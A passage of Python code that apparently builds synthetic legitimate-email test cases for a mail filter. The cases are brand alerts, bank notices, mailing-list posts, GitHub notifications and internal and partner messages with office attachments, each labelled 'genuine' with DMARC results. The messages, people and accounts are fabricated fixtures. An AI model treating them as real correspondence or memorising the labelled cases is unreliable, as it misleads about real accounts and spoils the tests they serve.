                      ["Hi Carol,", "Let's reset your password so you can get back to watching.",
                       "This link expires in 24 hours. If you didn't ask to reset your password, ignore this email."],
                      button=("Reset password", "https://www.netflix.com/password?g=%s&lkid=URL_PASSWORD"
                              % tok("nf", 36)),
                      footer='<a href="https://help.netflix.com/">Help Center</a> | '
                             '<a href="https://www.netflix.com/privacy">Privacy</a><br>Netflix Services UK Limited'))

    H("chase-statement-ready",
      "Genuine Chase 'statement is ready' alert linking to chase.com",
      "dmarc=pass", frm=addr("Chase", "no.reply.alerts@chase.com"), to=addr(*BOB), client="198.51.100.29",
      subject="Your statement is ready",
      entity=card_alt("CHASE", "#117aca", "Your Chase Business Complete Checking statement is available",
                      ["Account ending in (...5521)", "Statement period: 02/01/2025 - 02/28/2025"],
                      button=("Sign in to view", "https://secure.chase.com/web/auth/dashboard#/dashboard/documents"),
                      footer='<a href="https://www.chase.com/digital/resources/privacy-security">Security center</a>'
                             "<br>JPMorgan Chase Bank, N.A. Member FDIC"))

    H("wellsfargo-payment-alert",
      "Genuine Wells Fargo payment alert from alerts@notify.wellsfargo.com",
      "dmarc=pass", frm=addr("Wells Fargo Online", "alerts@notify.wellsfargo.com"), to=addr(*BOB),
      client="198.51.100.30", subject="Wells Fargo Business: scheduled payment processed",
      entity=card_alt("WELLS FARGO", "#d71e28", "Your scheduled payment was processed",
                      ["Payee: Lakeshore Energy", "Amount: $2,184.16", "From: Business Checking ...3380"],
                      button=("View account activity", "https://connect.secure.wellsfargo.com/accounts/start"),
                      footer="Please do not reply to this automated email. Wells Fargo Bank, N.A. Member FDIC."))

    H("dhl-shipment",
      "Genuine DHL shipment notification from noreply@dhl.com linking to www.dhl.com tracking",
      "dmarc=pass", frm=addr("DHL Express", "noreply@dhl.com"), to=addr(*DAVE), client="198.51.100.31",
      subject="DHL On Demand Delivery: shipment 1234567890 arriving tomorrow",
      entity=card_alt("DHL", "#d40511", "Your shipment arrives tomorrow",
                      ["Waybill 1234567890 from Fabrikam Inc", "Estimated delivery: Thursday 6 March, 09:00 - 12:00"],
                      button=("Track shipment", "https://www.dhl.com/us-en/home/tracking/tracking-express.html?"
                                                "submit=1&tracking-id=1234567890"),
                      footer='<a href="https://www.dhl.com/us-en/home/footer/privacy-notice.html">Privacy notice</a>'
                             "<br>DHL International GmbH"))

    H("google-signin-alert",
      "Genuine Google security alert from no-reply@accounts.google.com linking to myaccount.google.com",
      "dmarc=pass", frm=addr("Google", "no-reply@accounts.google.com"), to=addr(*ALICE), client="198.51.100.32",
      subject="Security alert",
      entity=card_alt("Google", "#1a73e8", "A new sign-in on Mac",
                      ["alice@northwind.com", "We noticed a new sign-in to your Google Account on a Mac device. If "
                       "this was you, you don't need to do anything."],
                      button=("Check activity", "https://accounts.google.com/AccountChooser?Email=alice@northwind.com"
                                                "&continue=https://myaccount.google.com/alert/nt/1741000000"),
                      footer="You can also see security activity at https://myaccount.google.com/notifications<br>"
                             "Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043"))

    H("amazon-order-confirmation",
      "Genuine Amazon order confirmation from auto-confirm@amazon.com",
      "dmarc=pass", frm=addr("Amazon.com", "auto-confirm@amazon.com"), to=addr(*CAROL), client="198.51.100.33",
      subject="Your Amazon.com order #114-2290017-5561839",
      entity=card_alt("amazon", "#232f3e", "Thanks for your order, Carol!",
                      ["Order #114-2290017-5561839", "Anker USB-C Hub x2   $71.98", "Arriving Saturday"],
                      button=("View or manage order", "https://www.amazon.com/gp/your-account/order-details"
                                                      "?orderID=114-2290017-5561839"),
                      footer="&copy; 2025 Amazon.com, Inc. or its affiliates."))

    H("microsoft-invoice-pdf",
      "Genuine Microsoft Azure invoice notification with PDF invoice attached",
      "dmarc=pass", frm=addr("Microsoft Azure", "azure-noreply@microsoft.com"), to=addr(*BOB), client="198.51.100.34",
      subject="Your Microsoft Azure invoice G071822931 is ready",
      entity=multipart("mixed",
                       card_alt("Microsoft Azure", "#0078d4", "Your invoice is ready",
                                ["Billing account: Northwind Ltd", "Invoice G071822931   Amount due: USD 3,912.44"],
                                button=("View invoice", "https://portal.azure.com/#blade/Microsoft_Azure_CostManagement"),
                                footer=MS_FOOT),
                       attachment(make_pdf(["Microsoft Azure - Invoice G071822931", "Northwind Ltd",
                                            "Total USD 3,912.44"], "Invoice"), "application/pdf",
                                  "G071822931.pdf")))

    H("docusign-completed-pdf",
      "Genuine DocuSign 'Completed' notice with the signed PDF attached",
      "dmarc=pass", frm=addr("DocuSign", "dse@docusign.net"), to=addr(*ALICE), client="198.51.100.35",
      subject="Completed: Please DocuSign: Contoso_NDA_2025.pdf",
      entity=multipart("mixed",
                       card_alt("DocuSign", "#1e4ca1", "Your document has been completed",
                                ["All signers completed Contoso_NDA_2025.pdf"],
                                button=("VIEW COMPLETED DOCUMENT", "https://na3.docusign.net/Member/EmailStart.aspx?"
                                        "m=%s" % tok("dsm", 36)), footer=DS_FOOT),
                       attachment(make_pdf(["MUTUAL NON-DISCLOSURE AGREEMENT", "Contoso Ltd and Northwind Ltd",
                                            "Signed: Alice Martin, Tom Reed"], "NDA"), "application/pdf",
                                  "Contoso_NDA_2025.pdf")))

    H("google-drive-share",
      "Genuine Google Drive share from drive-shares-dm-noreply@google.com with Reply-To the sharer at contoso.com",
      "dmarc=pass", frm=addr("Tom Reed (via Google Drive)", "drive-shares-dm-noreply@google.com"), to=addr(*DAVE),
      reply_to=addr("Tom Reed", "tom.reed@contoso.com"), client="198.51.100.36",
      subject="Spreadsheet shared with you: \"Aurora rollout plan\"",
      entity=card_alt("Google Drive", "#1a73e8", "Tom Reed shared a spreadsheet",
                      ["Tom Reed (tom.reed@contoso.com) has invited you to edit the following spreadsheet:",
                       "Aurora rollout plan"],
                      button=("Open", "https://docs.google.com/spreadsheets/d/%s/edit?usp=sharing_eil" % tok("gd", 44)),
                      footer="Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>You have received "
                             "this email because tom.reed@contoso.com shared a spreadsheet with you from Google Sheets."))

    H("linkedin-invitation",
      "Genuine LinkedIn invitation from invitations@linkedin.com",
      "dmarc=pass", frm=addr("Jordan Blake via LinkedIn", "invitations@linkedin.com"), to=addr(*BOB),
      client="198.51.100.37", subject="Bob, please add me to your LinkedIn network",
      entity=card_alt("LinkedIn", "#0a66c2", "Jordan Blake wants to connect",
                      ["Jordan Blake", "General Counsel at Fabrikam"],
                      button=("Accept", "https://www.linkedin.com/comm/mynetwork/invite-accept?invitationId=%s"
                              % tok("liinv", 12)),
                      footer="&copy; 2025 LinkedIn Corporation"))

    # ---------------------------------------------------------------- mailing lists & GitHub
    list_footer = ("\n-- \nrust-mail mailing list\nrust-mail@lists.rustmail.org\n"
                   "https://lists.rustmail.org/mailman/listinfo/rust-mail\n")
    H("mailing-list-dmarc-fail-arc-pass",
      "Mailing-list post from a gmail.com author, modified by the list (subject tag, footer): dmarc=fail arc=pass, Sender = list bounce",
      "dmarc=fail arc=pass", frm=addr("Hannah Weiss", "hannah.weiss@gmail.com"),
      to=addr(*DAVE), cc="rust-mail@lists.rustmail.org", sender="rust-mail <rust-mail-bounces@lists.rustmail.org>",
      mail_from="rust-mail-bounces+dave=northwind.com@lists.rustmail.org", client="198.51.100.38",
      subject="Re: [rust-mail] TLS handshake failures after upgrading to 0.9",
      extra=[("In-Reply-To", "<CA+dave.4471@mail.northwind.com>"), ("Precedence", "list"),
             ("List-Id", "Rust mail server users <rust-mail.lists.rustmail.org>"),
             ("List-Unsubscribe", "<https://lists.rustmail.org/mailman/options/rust-mail>, "
                                  "<mailto:rust-mail-request@lists.rustmail.org?subject=unsubscribe>"),
             ("List-Archive", "<https://lists.rustmail.org/pipermail/rust-mail/>"),
             ("List-Post", "<mailto:rust-mail@lists.rustmail.org>"),
             ("List-Help", "<mailto:rust-mail-request@lists.rustmail.org?subject=help>")],
      entity=text("On Tue, 4 Mar 2025 at 09:12, Dave Okafor <dave@northwind.com> wrote:\n"
                  "> After upgrading to 0.9 we see handshake failures from some older clients.\n"
                  "> Has anyone else seen this?\n\n"
                  "Yes - 0.9 dropped TLS 1.0/1.1 by default. You can re-enable them with\n"
                  "min_tls_version = \"1.0\" in the listener section, but I'd rather upgrade the\n"
                  "clients if at all possible.\n\nHannah\n" + list_footer))

    H("mailing-list-from-rewritten",
      "List post with From rewritten to 'Marco Rossi via infra-ops <infra-ops@lists.sre-community.org>' (DMARC mitigation), Reply-To author, dmarc=pass",
      "dmarc=pass", frm=addr("Marco Rossi via infra-ops", "infra-ops@lists.sre-community.org"),
      to=addr("infra-ops", "infra-ops@lists.sre-community.org"), cc=addr(*DAVE),
      reply_to=addr("Marco Rossi", "marco.rossi@yahoo.com"),
      sender="infra-ops <infra-ops-bounces@lists.sre-community.org>",
      mail_from="infra-ops-bounces+dave=northwind.com@lists.sre-community.org", client="198.51.100.39",
      subject="[infra-ops] Postmortem template we use",
      extra=[("X-Original-From", "Marco Rossi <marco.rossi@yahoo.com>"), ("Precedence", "list"),
             ("List-Id", "SRE community infra-ops <infra-ops.lists.sre-community.org>"),
             ("List-Unsubscribe", "<https://lists.sre-community.org/mailman/options/infra-ops>"),
             ("List-Post", "<mailto:infra-ops@lists.sre-community.org>")],
      entity=text("Hi all,\n\nSeveral people asked for our postmortem template after last week's call, so\n"
                  "here it is inline:\n\n  1. Summary\n  2. Impact\n  3. Timeline (UTC)\n  4. Root cause\n"
                  "  5. What went well / what didn't\n  6. Action items with owners\n\n"
                  "Cheers,\nMarco\n\n-- \ninfra-ops mailing list\nhttps://lists.sre-community.org/mailman/listinfo/infra-ops\n"))

    H("announce-list-security-advisory",
      "Announcement list (security advisory) with List-Id, Sender list bounce and signed-looking text, dmarc=pass",
      "dmarc=pass", frm=addr("Northern Linux Security Team", "security@northernlinux.org"),
      to="northernlinux-security-announce@lists.northernlinux.org", cc=addr(*DAVE),
      sender="northernlinux-security-announce-bounces@lists.northernlinux.org",
      mail_from="bounce-security-announce=dave=northwind.com@lists.northernlinux.org", client="198.51.100.40",
      subject="[SECURITY] [NLSA 5871-1] openssl security update",
      extra=[("List-Id", "<northernlinux-security-announce.lists.northernlinux.org>"), ("Precedence", "list"),
             ("List-Archive", "<https://lists.northernlinux.org/security-announce/>")],
      entity=text("-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\n"
                  "-------------------------------------------------------------------------\n"
                  "Northern Linux Security Advisory NLSA-5871-1     security@northernlinux.org\n"
                  "https://www.northernlinux.org/security/                       March 04, 2025\n"
                  "-------------------------------------------------------------------------\n\n"
                  "Package        : openssl\nCVE ID         : CVE-2025-0001\n\n"
                  "A flaw was found in the certificate verification code. For the stable\n"
                  "distribution this problem has been fixed in version 3.0.15-1~nl12u1.\n\n"
                  "We recommend that you upgrade your openssl packages.\n"
                  "-----BEGIN PGP SIGNATURE-----\n\niQIzBAEBCgAdFiEE%s\n=q7Xz\n"
                  "-----END PGP SIGNATURE-----\n" % tok("pgp", 60)))

    gh_to = "northwind/palisade-config <palisade-config@noreply.github.com>"
    H("github-issue-comment",
      "GitHub issue comment notification (notifications@github.com, Reply-To reply+...@reply.github.com, List-ID)",
      "dmarc=pass", frm=addr("Hannah Weiss", "notifications@github.com"), to=gh_to,
      cc=addrs(DAVE, ("Mention", "mention@noreply.github.com")),
      reply_to="northwind/palisade-config <reply+AAB4%s@reply.github.com>" % tok("ghr", 40),
      mail_from="noreply@github.com", client="198.51.100.41",
      subject="Re: [northwind/palisade-config] Add DMARC reporting address (Issue #42)",
      extra=[("In-Reply-To", "<northwind/palisade-config/issues/42@github.com>"),
             ("References", "<northwind/palisade-config/issues/42@github.com>"),
             ("List-ID", "northwind/palisade-config <palisade-config.northwind.github.com>"),
             ("List-Archive", "https://github.com/northwind/palisade-config"),
             ("List-Unsubscribe", "<mailto:unsub+AAB4%s@reply.github.com>, <https://github.com/notifications/"
                                  "unsubscribe/AAB4%s>" % (tok("ghu", 30), tok("ghu2", 30))),
             ("X-GitHub-Sender", "hweiss"), ("X-GitHub-Recipient", "dokafor"), ("X-GitHub-Reason", "mention")],
      entity=alt("@dokafor the rua address should be on a subdomain we control, otherwise the\n"
                 "external-destination verification record is needed. See RFC 7489 section 7.1.\n\n"
                 "--\nReply to this email directly, view it on GitHub:\n"
                 "https://github.com/northwind/palisade-config/issues/42#issuecomment-2697311840\n"
                 "You are receiving this because you were mentioned.\n",
                 '<p><a class="user-mention" href="https://github.com/dokafor">@dokafor</a> the rua address should be '
                 'on a subdomain we control, otherwise the external-destination verification record is needed. See '
                 'RFC 7489 section 7.1.</p>\n<p style="font-size:small;color:#666;">&mdash;<br>Reply to this email '
                 'directly, <a href="https://github.com/northwind/palisade-config/issues/42#issuecomment-2697311840">'
                 'view it on GitHub</a>, or <a href="https://github.com/notifications/unsubscribe-auth/AAB4%s">'
                 'unsubscribe</a>.<br>You are receiving this because you were mentioned.<img src="https://github.com/'
                 'notifications/beacon/AAB4%s.gif" height="1" width="1" alt="" /></p>\n'
                 % (tok("ghua", 30), tok("ghb", 40))))

    H("github-review-requested",
      "GitHub pull-request review request notification with links to github.com",
      "dmarc=pass", frm=addr("Marco Rossi", "notifications@github.com"), to=gh_to,
      cc=addrs(DAVE, ("Review requested", "review_requested@noreply.github.com")),
      reply_to="northwind/palisade-config <reply+AAB4%s@reply.github.com>" % tok("ghr2", 40),
      mail_from="noreply@github.com", client="198.51.100.42",
      subject="[northwind/palisade-config] Rotate DKIM selector 2025q1 (PR #57)",
      extra=[("List-ID", "northwind/palisade-config <palisade-config.northwind.github.com>"),
             ("X-GitHub-Reason", "review_requested")],
      entity=alt("@mrossi requested your review on: northwind/palisade-config#57 Rotate DKIM selector 2025q1.\n\n"
                 "You can view, comment on, or merge this pull request online at:\n\n"
                 "  https://github.com/northwind/palisade-config/pull/57\n\nCommit Summary\n\n"
                 "  * rotate selector s2025q1\n  * publish new public key\n\nFile Changes\n\n"
                 "  M dns/northwind.com.zone (4)\n",
                 '<p><b>@mrossi</b> requested your review on: <a href="https://github.com/northwind/palisade-config/'
                 'pull/57">#57 Rotate DKIM selector 2025q1</a>.</p><h4>Commit Summary</h4><ul><li>rotate selector '
                 's2025q1</li><li>publish new public key</li></ul><h4>File Changes</h4><ul><li><b>M</b> <a href="https:'
                 '//github.com/northwind/palisade-config/pull/57/files">dns/northwind.com.zone</a> (4)</li></ul>\n'))

    # ---------------------------------------------------------------- internal mail
    H("internal-ceo-all-hands",
      "Internal announcement from the CEO alice@northwind.com to all staff (dmarc=pass)",
      "dmarc=pass", frm=addr(*ALICE), to=addrs(BOB, CAROL, DAVE), client="192.0.2.10",
      subject="All-hands on Friday + Q1 priorities", mailer="Microsoft Outlook 16.0",
      extra=[("Thread-Topic", "All-hands on Friday + Q1 priorities"), ("Content-Language", "en-US")],
      entity=alt(plain(["Hi all,", "", "Quick reminder that our all-hands is this Friday at 10:00 in the big meeting",
                        "room (and on Teams for anyone remote). I'll walk through the Q1 priorities:", "",
                        "  - close the Fabrikam MSA renewal", "  - launch Aurora with Contoso",
                        "  - finish the mail gateway migration", "",
                        "Bob will cover the financials. Bring questions!", "", "Alice", "", "Alice Martin",
                        "Chief Executive Officer | Northwind"]),
                 outlook_html(["Hi all,", "", "Quick reminder that our all-hands is this Friday at 10:00 in the big "
                               "meeting room (and on Teams for anyone remote). I'll walk through the Q1 priorities:",
                               "- close the Fabrikam MSA renewal", "- launch Aurora with Contoso",
                               "- finish the mail gateway migration", "", "Bob will cover the financials. Bring "
                               "questions!", "", "Alice"], ["Alice Martin", "Chief Executive Officer | Northwind"])))

    quoted_txt = ("\n-----Original Message-----\nFrom: Bob Chen <bob@northwind.com>\nSent: Tuesday, March 4, 2025 "
                  "9:02 AM\nTo: Alice Martin <alice@northwind.com>\nSubject: Fabrikam invoice FAB-22817 - OK to pay?\n\n"
                  "Alice,\n\nFabrikam's February invoice (EUR 32,610) is in - bank details match the contract.\n"
                  "OK to include it in Thursday's payment run?\n\nBob\n")
    H("internal-reply-chain-quoted",
      "Internal reply chain CEO -> CFO approving a partner invoice (payment topic, legitimate), quoted original, In-Reply-To/References",
      "dmarc=pass", frm=addr(*ALICE), to=addr(*BOB), client="192.0.2.10",
      subject="RE: Fabrikam invoice FAB-22817 - OK to pay?", mailer="Microsoft Outlook 16.0",
      date="Tue, 04 Mar 2025 09:48:31 +0000",
      extra=[("In-Reply-To", "<BN7PR11MB4471.bob.0304@northwind.com>"),
             ("References", "<BN7PR11MB4471.bob.0304@northwind.com>"),
             ("Thread-Topic", "Fabrikam invoice FAB-22817 - OK to pay?"), ("Thread-Index", "AQHbjPq3kXvq0Nw2c0m==")],
      entity=alt("Yes, approved - it matches the PO. Go ahead on Thursday.\n\nAlice\n" + quoted_txt,
                 outlook_html(["Yes, approved - it matches the PO. Go ahead on Thursday.", "", "Alice"], [],
                              quoted_html='<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm '
                                          '0cm"><p class="MsoNormal"><b>From:</b> Bob Chen &lt;bob@northwind.com&gt;<br>'
                                          '<b>Sent:</b> Tuesday, March 4, 2025 9:02 AM<br><b>To:</b> Alice Martin '
                                          '&lt;alice@northwind.com&gt;<br><b>Subject:</b> Fabrikam invoice FAB-22817 - '
                                          'OK to pay?</p></div><p class="MsoNormal">Alice,</p><p class="MsoNormal">'
                                          'Fabrikam\'s February invoice (EUR 32,610) is in - bank details match the '
                                          'contract. OK to include it in Thursday\'s payment run?</p><p class="MsoNormal">'
                                          'Bob</p>\n')))

    roster = make_xlsx([["Name", "Team", "Start date", "Desk"], ["Alice Martin", "Exec", "2015-04-01", "A1"],
                        ["Bob Chen", "Finance", "2017-09-15", "B4"], ["Carol D\u00edaz", "People", "2019-01-07", "C2"],
                        ["Dave Okafor", "IT", "2021-06-21", "D7"]], "Roster", "Carol D\u00edaz")
    H("internal-xlsx-roster",
      "Internal mail Carol -> Dave with a real .xlsx attachment (no macros)",
      "dmarc=pass", frm=addr(*CAROL), to=addr(*DAVE), client="192.0.2.11",
      subject="Updated desk roster", mailer="Microsoft Outlook 16.0",
      msgid="<DM6PR11MB4471.carol.roster@northwind.com>",
      entity=multipart("mixed",
                       alt("Hi Dave,\n\nAttached is the updated desk roster for the office move. Could you set up\n"
                           "the phones accordingly?\n\nThanks!\nCarol\n",
                           outlook_html(["Hi Dave,", "", "Attached is the updated desk roster for the office move. "
                                         "Could you set up the phones accordingly?", "", "Thanks!"],
                                        ["Carol D\u00edaz", "People & Culture | Northwind"])),
                       attachment(roster, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                                  "Desk_Roster_March.xlsx")))

    H("internal-short-plain",
      "Short internal plain-text note Dave -> Carol",
      "dmarc=pass", frm=addr(*DAVE), to=addr(*CAROL), client="192.0.2.12", subject="Re: Updated desk roster",
      extra=[("In-Reply-To", "<DM6PR11MB4471.carol.roster@northwind.com>"),
             ("References", "<DM6PR11MB4471.carol.roster@northwind.com>")],
      entity=text("Done - phones are patched for the new desks. Let me know if anything's off.\n\nDave\n"))

    internal_ics = make_ics("040000008200E00074C5B7101A82E00800000000B0F1A2C3D4E5@northwind.com",
                            "Board prep - Q1 numbers", "20250307T140000Z", "20250307T150000Z",
                            ("Alice Martin", "alice@northwind.com"), [("Bob Chen", "bob@northwind.com")],
                            location="Board room", description="Walk through Q1 numbers before the board meeting.")
    H("internal-calendar-invite",
      "Internal Outlook meeting request (multipart/alternative with text/calendar; method=REQUEST)",
      "dmarc=pass", frm=addr(*ALICE), to=addr(*BOB), client="192.0.2.10", subject="Board prep - Q1 numbers",
      mailer="Microsoft Outlook 16.0",
      entity=multipart("alternative",
                       text("Walk through Q1 numbers before the board meeting.\n\nWhen: Friday, 7 March 2025 "
                            "14:00-15:00 (UTC)\nWhere: Board room\n"),
                       html(outlook_html(["Walk through Q1 numbers before the board meeting.", "",
                                          "When: Friday, 7 March 2025 14:00-15:00 (UTC)", "Where: Board room"], [])),
                       text(internal_ics, subtype="calendar", extra_params="; method=REQUEST", cte="base64")))

    close_csv = ("Task,Owner,Due,Status\r\nBank reconciliation,Bob Chen,2025-03-05,Done\r\n"
                 "Accruals,Bob Chen,2025-03-06,In progress\r\nPayroll journal,Carol D\u00edaz,2025-03-06,Open\r\n"
                 "IT asset depreciation,Dave Okafor,2025-03-07,Open\r\n")
    H("internal-csv-close-checklist",
      "Internal mail Bob -> Alice with a .csv attachment (month-end close checklist)",
      "dmarc=pass", frm=addr(*BOB), to=addr(*ALICE), cc=addrs(CAROL, DAVE), client="192.0.2.13",
      subject="Month-end close checklist", mailer="Microsoft Outlook 16.0",
      entity=multipart("mixed", text("Alice,\n\nHere's where we are on the February close. On track for Friday.\n\n"
                                     "Bob\n"),
                       attachment(close_csv.encode("utf-8"), 'text/csv; charset="utf-8"', "close_checklist_feb.csv")))

    H("internal-hr-newsletter-inline-photo",
      "Internal HR newsletter with an inline (cid) PNG photo in multipart/related - not a QR code",
      "dmarc=pass", frm=addr(*CAROL), to=addrs(ALICE, BOB, DAVE), client="192.0.2.11",
      subject="Northwind News - March",
      entity=multipart("related",
                       alt("Northwind News - March\n\nWelcome to our new office plants, a recap of the team offsite and "
                           "the\nspring volunteering day.\n\nCarol\n",
                           html_page('<tr><td style="padding:24px;font-family:Calibri,Arial;font-size:15px;">'
                                     '<h2>Northwind News - March</h2><p>Here is a photo from the team offsite:</p>'
                                     '<p><img src="cid:offsite-photo@northwind.com" width="320" height="220" '
                                     'alt="Team offsite"></p><p>Spring volunteering day is on 28 March - sign up with '
                                     'Carol.</p><p>Carol</p></td></tr>', title="Northwind News")),
                       attachment(make_photo(7), "image/png", "offsite.png", inline=True,
                                  cid="offsite-photo@northwind.com"), params='; type="multipart/alternative"'))

    H("internal-sender-on-behalf",
      "Internal mail From the CEO with Sender: Carol (sent on behalf, same organisation) - a legitimate From/Sender pair",
      "dmarc=pass", frm=addr(*ALICE), sender=addr(*CAROL), to=addr(*BOB), client="192.0.2.11",
      subject="Board meeting logistics", mailer="Microsoft Outlook 16.0",
      entity=alt("Bob,\n\nThe board meeting on 20 March starts at 09:30; dinner the evening before at 19:00.\n"
                 "Carol has booked rooms for the non-executive directors.\n\nAlice\n",
                 outlook_html(["Bob,", "", "The board meeting on 20 March starts at 09:30; dinner the evening before "
                               "at 19:00.", "Carol has booked rooms for the non-executive directors.", "", "Alice"],
                              ["Alice Martin", "Chief Executive Officer | Northwind"])))

    # ---------------------------------------------------------------- partner mail
    H("partner-contoso-update",
      "Partner mail from tom.reed@contoso.com: project update, Outlook HTML",
      "dmarc=pass", frm=addr("Tom Reed", "tom.reed@contoso.com"), to=addr(*ALICE), cc=addr(*DAVE),
      client="198.51.100.43", subject="Aurora launch - status update", mailer="Microsoft Outlook 16.0",
      entity=alt("Hi Alice,\n\nQuick update on Aurora: QA signed off yesterday, marketing assets are final,\n"
                 "and we're on track for the 18 March launch. Dave - I'll share the rollout plan shortly.\n\n"
                 "Best,\nTom\n",
                 outlook_html(["Hi Alice,", "", "Quick update on Aurora: QA signed off yesterday, marketing assets are "
                               "final, and we're on track for the 18 March launch. Dave - I'll share the rollout plan "
                               "shortly.", "", "Best,"], ["Tom Reed", "Program Manager | Contoso Ltd"])))

    H("partner-fabrikam-docx",
      "Partner mail from fabrikam.com with a real .docx contract draft (no macros)",
      "dmarc=pass", frm=addr("Jordan Blake", "jblake@fabrikam.com"), to=addr(*ALICE), client="198.51.100.44",
      subject="MSA 2025 - redline v3", mailer="Microsoft Outlook 16.0",
      entity=multipart("mixed",
                       alt("Alice,\n\nAttached is redline v3 of the MSA with our comments on sections 7 and 12.\n\n"
                           "Regards,\nJordan\n",
                           outlook_html(["Alice,", "", "Attached is redline v3 of the MSA with our comments on sections "
                                         "7 and 12.", "", "Regards,"], ["Jordan Blake", "General Counsel | Fabrikam"])),
                       attachment(make_docx(["MASTER SERVICES AGREEMENT", "between Fabrikam Inc and Northwind Ltd",
                                             "7. Limitation of liability ...", "12. Term and termination ..."],
                                            "MSA 2025 v3", "Jordan Blake"),
                                  "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                                  "Fabrikam_Northwind_MSA_2025_v3.docx")))

    H("partner-globex-meeting-notes",
      "Correspondent mail from l.park@globex.com (dmarc=pass): meeting notes, gmail-style HTML",
      "dmarc=pass", frm=addr("Linda Park", "l.park@globex.com"), to=addr(*BOB), client="198.51.100.45",
      subject="Notes from today's call",
      entity=alt(plain(["Hi Bob,", "", "Thanks for the call. Notes:", "- Q2 volumes flat vs Q1",
                        "- New pricing effective 1 April (sheet to follow)", "- Next review 12 March", "",
                        "Linda"]),
                 gmail_html(["Hi Bob,", "", "Thanks for the call. Notes:", "- Q2 volumes flat vs Q1",
                             "- New pricing effective 1 April (sheet to follow)", "- Next review 12 March", "",
                             "Linda"])))

    H("partner-initech-support-ticket",
      "Vendor support ticket from support@initech.com with Reply-To on the same domain (ticket address)",
      "dmarc=pass", frm=addr("Initech Support", "support@initech.com"), to=addr(*DAVE),
      reply_to="Initech Support <support+ticket-88213@initech.com>", client="198.51.100.46",
      subject="[Ticket #88213] Export job fails with timeout",
      entity=card_alt("Initech Support", "#455a64", "Ticket #88213 updated",
                      ["Hi Dave,", "We found the cause: the export job hit the 15-minute limit. We've raised it to 60 "
                       "minutes for your tenant. Please retry and let us know.", "Peter - Initech Support"],
                      button=("View ticket", "https://support.initech.com/tickets/88213"),
                      footer="Reply to this email to add a comment to the ticket."))

    H("partner-umbrella-review",
      "Correspondent mail from umbrella-corp.com scheduling a quarterly review",
      "dmarc=pass", frm=addr("Albert Wesker", "a.wesker@umbrella-corp.com"), to=addr(*ALICE),
      client="198.51.100.47", subject="Quarterly review - proposed dates",
      entity=text("Hi Alice,\n\nCould we hold the quarterly review on 19 or 20 March? Either works on our side.\n\n"
                  "Best regards,\nAlbert Wesker\nUmbrella Corporation\n"))

    H("same-domain-link-text",
      "Link whose visible text is https://www.contoso.com/orders and whose href is https://www.contoso.com/orders?id=1",
      "dmarc=pass", frm=addr("Contoso Orders", "orders@contoso.com"), to=addr(*DAVE), client="198.51.100.48",
      subject="Order CN-558121 confirmed",
      entity=alt("Your order CN-558121 is confirmed.\nTrack it at https://www.contoso.com/orders?id=1\n",
                 card("Contoso", "#0f6cbd", "Order CN-558121 confirmed",
                      ["Your order is confirmed and will ship within two business days.",
                       ("raw", '<p style="font-size:15px;">Track it at <a href="https://www.contoso.com/orders?id=1">'
                               'https://www.contoso.com/orders</a></p>')],
                      footer="Contoso Ltd")))

    H("out-of-office-autoreply",
      "Out-of-office auto-reply from contoso.com (Auto-Submitted: auto-replied, null envelope sender)",
      "dmarc=pass", frm=addr("Tom Reed", "tom.reed@contoso.com"), to=addr(*ALICE), mail_from="",
      client="198.51.100.49", subject="Automatic reply: Aurora launch - status update",
      extra=[("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All"),
             ("In-Reply-To", "<AM0PR01MB5512.alice.0305@northwind.com>")],
      entity=text("Thank you for your email. I am out of the office until Monday 10 March with limited\n"
                  "access to email. For urgent Aurora matters please contact Megan Fisher.\n\nTom Reed\n"))

    H("partner-fabrikam-xlsx-pricelist",
      "Partner mail from fabrikam.com with a real .xlsx price list",
      "dmarc=pass", frm=addr("Sandra Koch", "s.koch@fabrikam.com"), to=addr(*BOB), client="198.51.100.50",
      subject="Price list 2025",
      entity=multipart("mixed", text("Hello Bob,\n\nAs promised, our 2025 price list is attached.\n\nBest,\nSandra\n"),
                       attachment(make_xlsx([["SKU", "Description", "Unit price EUR"], ["FB-100", "Consulting day", 1200],
                                             ["FB-200", "Audit package", 8500], ["FB-300", "Support (monthly)", 950]],
                                            "Prices 2025", "Sandra Koch"),
                                  "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                                  "Fabrikam_Price_List_2025.xlsx")))

    pdfs = make_zip([("Globex_Statement_Q4_2024.pdf", make_pdf(["Globex - Statement Q4 2024"], "Q4")),
                     ("Globex_Statement_Q3_2024.pdf", make_pdf(["Globex - Statement Q3 2024"], "Q3")),
                     ("Globex_Statement_Q2_2024.pdf", make_pdf(["Globex - Statement Q2 2024"], "Q2"))])
    H("partner-globex-zip-of-pdfs",
      "Correspondent mail with a .zip of three PDF statements (unencrypted)",
      "dmarc=pass", frm=addr("Linda Park", "l.park@globex.com"), to=addr(*BOB), client="198.51.100.51",
      subject="Statements for the audit",
      entity=multipart("mixed", text("Hi Bob,\n\nThe three quarterly statements your auditors asked for are in the "
                                     "attached zip.\n\nLinda\n"),
                       attachment(pdfs, "application/zip", "Globex_Statements_2024.zip")))

    H("partner-contoso-docx-nda-draft",
      "Partner mail from contoso.com legal with a .docx (no macros)",
      "dmarc=pass", frm=addr("Megan Fisher", "megan.fisher@contoso.com"), to=addr(*ALICE), client="198.51.100.52",
      subject="Draft SOW for Aurora phase 2",
      entity=multipart("mixed", text("Alice,\n\nDraft SOW for phase 2 attached for your review.\n\nMegan\n"),
                       attachment(make_docx(["STATEMENT OF WORK - AURORA PHASE 2", "Scope", "Milestones", "Fees"],
                                            "SOW", "Megan Fisher"),
                                  "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                                  "Aurora_Phase2_SOW_draft.docx")))

    H("partner-multiple-from-with-sender",
      "Joint letter with two authors in From and the required Sender field (RFC 5322-valid) from contoso.com",
      "dmarc=pass", frm=addrs(("Tom Reed", "tom.reed@contoso.com"), ("Megan Fisher", "megan.fisher@contoso.com")),
      sender=addr("Tom Reed", "tom.reed@contoso.com"), to=addr(*ALICE), cc=addr(*DAVE), client="198.51.100.70",
      subject="Thank you - Aurora phase 1",
      entity=text("Dear Alice,\n\nOn behalf of the whole Contoso team, thank you for a smooth phase 1. We are\n"
